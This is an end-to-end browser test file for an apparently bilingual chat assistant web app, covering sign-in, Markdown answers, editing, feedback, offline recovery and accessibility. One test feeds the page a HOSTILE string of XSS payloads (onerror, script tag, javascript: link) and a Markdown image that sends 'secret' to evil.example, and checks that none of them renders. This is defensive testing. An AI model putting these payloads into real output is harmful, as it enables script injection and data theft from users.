// What a person does with the page over days, in both languages, on a phone and at a desk.
import assert from 'node:assert/strict'
import test, { after, afterEach, before } from 'node:test'
import { asked, inspect, launch, line, mail, model, open, shot, signIn, WEB_URL, wholeConversation } from './browser.mjs'

const PHONE = { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true, deviceScaleFactor: 2 }
const MARKDOWN = `Two years from the day of delivery [1]. In short:

| What | How long | Covered |
|---|---:|---|
| Material | 24 months | yes |
| Manufacture | 24 months | yes |
| Water, falls | – | no |

### How to claim it

1. Write to support with the **serial number** and a photo.
2. Wait for the prepaid label: it comes *within one working day*.

\`\`\`sh
curl -s https://api.example.com/claims -d serial=A-1042
\`\`\`

A device that cannot be repaired within ten days is replaced [1].`
const HOSTILE =
  'Look <img src=x onerror="window.bad=1"> ![a cat](https://evil.example/?q=secret) [here](javascript:alert(1)) <script>window.bad=1</script>'

let browser
const way = line()
before(async () => {
  await way.listen()
  browser = await launch()
})
let failed = 0
afterEach(async () => {
  // Of a test that passed none is open any more.
  for (const context of browser.contexts()) {
    for (const page of context.pages()) await shot(page, `failed-${++failed}`)
    await context.close()
  }
  way.shut(false)
  await model(null)
})
after(async () => {
  await browser?.close()
  way.close()
})

async function fine({ page, context, problems }) {
  assert.deepEqual(await inspect(page), [])
  assert.deepEqual(await page.evaluate(() => window.violations), [])
  assert.deepEqual(problems, [])
  await context.close()
}

const send = async (page, text) => {
  await page.locator('#message').fill(text)
  await page.locator('button.send').click()
}
const finished = (page, turn) => page.locator('.turn').nth(turn).locator('.answer > .tools')

test('in Portuguese, on a phone, in the dark: the link of the mail, its button, a question, the drawer', async () => {
  const one = await open(browser, { ...PHONE, locale: 'pt-BR', colorScheme: 'dark' })
  const { page } = one
  await page.goto(WEB_URL)
  await page.getByRole('heading', { name: 'Entrar' }).waitFor()
  await shot(page, 'phone-sign-in')
  assert.deepEqual(await inspect(page), [])
  await page.getByLabel('E-mail').fill('phone@example.com')
  await page.getByRole('button', { name: 'Enviar código' }).click()
  await page.getByRole('heading', { name: 'Veja o seu e-mail' }).waitFor()
  assert.deepEqual(await inspect(page), [])
  const { page: link } = await mail('phone@example.com')
  // A scanner that looks at it uses nothing up.
  await fetch(link)
  await page.goto(link)
  await page.getByRole('heading', { name: 'Falta um passo' }).waitFor()
  assert.deepEqual(await inspect(page), [])
  await page.getByRole('button', { name: 'Entrar agora' }).click()
  await page.getByRole('heading', { name: 'O que você quer saber?' }).waitFor()
  await shot(page, 'phone-welcome')
  assert.ok(!page.url().includes('token_hash'))

  await page.getByRole('button', { name: 'Qual é o prazo de entrega no Brasil?' }).click()
  await page.locator('.markdown').getByText('cinco dias úteis no Brasil').waitFor()
  await finished(page, 0).waitFor()
  await shot(page, 'phone-answer')
  assert.deepEqual(await inspect(page), [])
  // Enter is a new line here; the button sends.
  await page.locator('#message').fill('uma')
  await page.keyboard.press('Enter')
  assert.equal(await page.locator('#message').inputValue(), 'uma\n')
  await page.locator('#message').fill('')

  await page.getByRole('button', { name: 'Abrir a lista de conversas' }).click()
  await page.getByRole('link', { name: 'Qual é o prazo de entrega no Brasil?' }).waitFor()
  await shot(page, 'phone-drawer')
  assert.deepEqual(await inspect(page), [])
  await page.keyboard.press('Escape')
  await page.locator('dialog.drawer[open]').waitFor({ state: 'detached' })

  // The same link again: it says so, and offers another mail.
  await page.goto(link)
  await page.reload()
  await page.getByRole('button', { name: 'Entrar agora' }).click()
  await page.getByText('Este link já foi usado').waitFor()
  assert.deepEqual(await inspect(page), [])
  await page.getByRole('button', { name: 'Enviar novo código' }).click()
  await page.locator('#message').waitFor() // who is signed in stays so
  await fine(one)
})

test('at a desk: a wrong code, Markdown, again, otherwise, worth, renamed, found, deleted and brought back', async () => {
  const one = await open(browser)
  const { page } = one
  await page.goto(WEB_URL)
  await page.getByLabel('E-mail address').fill('desk@example.com')
  await page.keyboard.press('Enter')
  const { token } = await mail('desk@example.com')
  await page.getByLabel('Code').fill(token === '000000' ? '000001' : '000000')
  await page.keyboard.press('Enter')
  await page.getByText('This code is wrong').waitFor()
  await page.getByText(/New code in \d+ seconds/).waitFor()
  await shot(page, 'desk-code')
  assert.deepEqual(await inspect(page), [])
  await page.getByLabel('Code').fill(token)
  await page.keyboard.press('Enter')

  await model({ text: MARKDOWN })
  await page.locator('#message').fill('How long is the warranty?')
  await page.keyboard.press('Enter')
  await finished(page, 0).waitFor()
  assert.equal(await page.locator('.markdown tbody tr').count(), 3)
  await page.mouse.move(700, 30)
  await page.setViewportSize({ width: 1280, height: 880 })
  await shot(page, 'desk-answer') // docs/web.png
  await page.setViewportSize({ width: 1280, height: 800 })
  await page.getByRole('button', { name: 'Copy code' }).click()
  assert.match(await page.evaluate(() => navigator.clipboard.readText()), /^curl -s/)
  await page.emulateMedia({ colorScheme: 'dark' })
  await shot(page, 'desk-answer-dark')
  assert.deepEqual(await inspect(page), [])
  await page.emulateMedia({ colorScheme: 'light' })

  // What is between two words of an IME does not send.
  await page.locator('#message').fill('に')
  await page.locator('#message').evaluate((field) =>
    field.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true })),
  )
  assert.equal(await page.locator('.turn').count(), 1)
  await page.locator('#message').fill('')

  // Hostile words are words.
  await model({ text: HOSTILE })
  await send(page, 'Look')
  await finished(page, 1).waitFor()
  const hostile = page.locator('.turn').nth(1).locator('.markdown')
  assert.equal(await hostile.locator('img, script, [href^=javascript]').count(), 0)
  assert.equal(await page.evaluate(() => window.bad), undefined)

  // Again: the answer is replaced. Otherwise: so is what follows.
  await model({ text: 'Another answer.' })
  const before = await asked()
  await page.getByRole('button', { name: 'Answer again' }).click()
  await page.locator('.turn').nth(1).getByText('Another answer.').waitFor()
  await finished(page, 1).waitFor()
  assert.equal(await asked(), before + 1)
  await page.locator('.turn').nth(0).hover()
  await page.locator('.turn').nth(0).getByRole('button', { name: 'Edit question' }).click()
  await page.getByRole('textbox', { name: 'Edit question' }).fill('How long is it?')
  await page.keyboard.press('Enter')
  await page.locator('.turn').nth(0).getByText('Another answer.').waitFor()
  await finished(page, 0).waitFor()
  assert.equal(await page.locator('.turn').count(), 1)

  await page.getByRole('button', { name: 'Good answer' }).click()
  await page.getByText('Thank you.').waitFor()
  await page.getByRole('button', { name: 'Bad answer' }).click()
  await page.getByRole('heading', { name: 'What was wrong?' }).waitFor()
  await page.keyboard.type('Too short.')
  assert.deepEqual(await inspect(page), [])
  await page.getByRole('button', { name: 'Send feedback' }).click()
  await page.reload()
  await page.locator('[aria-label="Bad answer"][aria-pressed=true]').waitFor()

  // By the keyboard alone: rename.
  const menu = () => page.getByRole('button', { name: /^Options for/ }).first()
  await menu().focus()
  await page.keyboard.press('Enter')
  await page.getByRole('menuitem', { name: 'Rename' }).waitFor()
  await shot(page, 'desk-menu')
  await page.keyboard.press('Enter')
  await page.getByLabel('Title').fill('Guarantees')
  await page.keyboard.press('Enter')
  await page.getByRole('link', { name: 'Guarantees' }).waitFor()
  await page.getByRole('heading', { name: 'Guarantees' }).waitFor()

  await page.getByRole('button', { name: 'New conversation' }).click()
  await send(page, 'Second one')
  await finished(page, 0).waitFor()
  await page.getByRole('searchbox', { name: 'Search conversations' }).fill('uarant')
  await page.getByRole('link', { name: 'Second one' }).waitFor({ state: 'detached' })
  await page.getByRole('link', { name: 'Guarantees' }).waitFor()
  await page.getByRole('searchbox').fill('nothing like it')
  await page.getByText('Nothing found.').waitFor()
  await page.getByRole('searchbox').fill('')
  await page.getByRole('link', { name: 'Second one' }).waitFor()

  // Deleted, and taken back; deleted, and gone.
  const remove = async (name) => {
    await page.getByRole('button', { name: `Options for “${name}”` }).click()
    await page.getByRole('menuitem', { name: 'Delete' }).click()
    await page.getByRole('link', { name }).waitFor({ state: 'detached' })
  }
  await remove('Guarantees')
  await shot(page, 'desk-undo')
  await page.getByRole('button', { name: 'Undo' }).click()
  await page.getByRole('link', { name: 'Guarantees' }).waitFor()
  await remove('Guarantees')
  await page.reload()
  await page.getByRole('link', { name: 'Second one' }).waitFor()
  assert.equal(await page.getByRole('link', { name: 'Guarantees' }).count(), 0)
  await fine(one)
})

test('a reload, a lost network and a lost session: nothing that was written or answered is lost', async () => {
  const one = await open(browser)
  const { page, context } = one
  await signIn(page, 'lost@example.com')
  const words = Array.from({ length: 120 }, (_, at) => `w${at}`).join(' ')
  await model({ kind: 'slow', first: 0.5, delay: 0.04, text: words })
  const before = await asked()
  await send(page, 'Count')
  await page.locator('.turn .thinking').waitFor()
  await page.reload() // before a word has come
  await page.locator('.markdown').getByText('w9', { exact: false }).waitFor()
  await page.reload() // in the middle
  await page.locator('.markdown').getByText('w40', { exact: false }).waitFor()
  await context.setOffline(true)
  way.cut()
  await page.getByText('No network.').waitFor()
  await page.locator('#message').fill('A draft that stays')
  await shot(page, 'desk-offline')
  assert.deepEqual(await inspect(page), [])
  await context.setOffline(false)
  await finished(page, 0).waitFor()
  assert.equal((await page.locator('.markdown').innerText()).trim(), words)
  assert.equal(await asked(), before + 1)
  await page.reload()
  assert.equal(await page.locator('#message').inputValue(), 'A draft that stays')

  // Errors at the answer, in plain words, with a way on.
  await model({ kind: 'failing', status: 500, times: 20 })
  await send(page, 'Fail')
  await page.getByText('The model does not answer at the moment.').waitFor()
  await shot(page, 'desk-error')
  assert.deepEqual(await inspect(page), [])
  await model({ text: 'It works again.' })
  const again = page.getByRole('button', { name: 'Try again' })
  await again.and(page.locator(':enabled')).waitFor()
  await again.click()
  await page.locator('.markdown').getByText('It works again.').waitFor()
  assert.equal(await page.locator('.turn').count(), 2)

  // Signed out elsewhere, everywhere: here it shows when the session has to prove itself.
  const other = await open(browser)
  await signIn(other.page, 'lost@example.com')
  await page.locator('#message').fill('Kept over a sign-in')
  await other.page.getByRole('button', { name: /Account and settings/ }).click()
  await shot(other.page, 'desk-account')
  assert.deepEqual(await inspect(other.page), [])
  await other.page.getByRole('menuitem', { name: 'Sign out everywhere' }).click()
  await other.page.getByRole('heading', { name: 'Sign in' }).waitFor()
  await other.context.close()
  await page.evaluate(() => {
    const session = JSON.parse(localStorage.getItem('cimt.session'))
    localStorage.setItem('cimt.session', JSON.stringify({ ...session, expires_at: 1 }))
  })
  await page.reload()
  await page.getByRole('heading', { name: 'Sign in' }).waitFor()
  await fine(one)
})

test('a long conversation: the newest turns after a reload, the earlier ones when asked, in order and in place', async () => {
  const one = await open(browser)
  const { page } = one
  await signIn(page, 'long@example.com')
  await model({ text: 'Noted.' })
  const said = Array.from({ length: 32 }, (_, at) => `Remark ${at + 1}`)
  for (const [at, words] of said.entries()) {
    await send(page, words)
    await finished(page, at).waitFor()
  }
  await page.reload()
  await page.getByText('Remark 32', { exact: true }).waitFor()
  const third = page.locator('.turn').filter({ has: page.getByText('Remark 3', { exact: true }) })
  await page.locator('button.older').scrollIntoViewIfNeeded()
  const { y } = await third.boundingBox()
  await wholeConversation(page, said.length)
  assert.deepEqual(await page.locator('.turn .bubble').allInnerTexts(), said)
  assert.equal(await page.locator('button.older').count(), 0)
  assert.ok(Math.abs((await third.boundingBox()).y - y) < 2, 'what was read has moved')
  await fine(one)
})

test('at 200 % zoom, with less motion, and by the keyboard', async () => {
  const one = await open(browser, { viewport: { width: 640, height: 400 }, reducedMotion: 'reduce', locale: 'pt-BR' })
  const { page } = one
  await signIn(page, 'zoom@example.com')
  await model({ text: MARKDOWN })
  await page.locator('#message').fill('Garantia?')
  await page.keyboard.press('Enter')
  await finished(page, 0).waitFor()
  const wide = await page.evaluate(() => document.documentElement.scrollWidth > innerWidth)
  assert.equal(wide, false)
  await shot(page, 'zoom')
  const moving = await page.evaluate(() => document.getAnimations().length)
  assert.equal(moving, 0)
  // From the top of the page there is a short way to where one writes.
  await page.locator('.skip').focus()
  await shot(page, 'zoom-skip')
  await page.keyboard.press('Enter')
  assert.equal(await page.evaluate(() => document.activeElement.id), 'message')
  await fine(one)
})
